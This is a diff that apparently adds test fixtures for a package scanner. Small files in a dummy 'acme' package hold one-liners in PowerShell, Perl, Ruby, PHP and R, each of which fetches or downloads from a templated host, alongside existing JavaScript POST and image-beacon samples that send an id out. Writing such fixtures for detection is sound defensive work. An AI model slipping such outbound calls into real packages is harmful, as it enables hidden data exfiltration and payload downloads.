@@ -87,6 +87,11 @@ FILES = {
         "acme/__init__.py": "",
         "acme/static/a.js": f"fetch('https://{HOST}/v', {{method: 'POST'}})",
     },
+    "PowerShell": {"acme/__init__.py": "", "acme/a.ps1": f"Invoke-WebRequest -Uri https://{HOST}/v -OutFile a"},
+    "Perl": {"acme/__init__.py": "", "acme/a.pl": f"use LWP::Simple;\nmy $v = get('https://{HOST}/v');"},
+    "Ruby": {"acme/__init__.py": "", "acme/a.rb": f"require 'net/http'\nNet::HTTP.get(URI('https://{HOST}/v'))"},
+    "PHP": {"acme/__init__.py": "", "acme/a.php": f"<?php $c = curl_init('https://{HOST}/v');"},
+    "R": {"acme/__init__.py": "", "acme/a.R": f'download.file("https://{HOST}/v", "a")'},
     "a picture that reports": {
         "acme/__init__.py": "",
         "acme/static/a.js": f"new Image().src = 'https://{HOST}/p.gif?u=' + id",
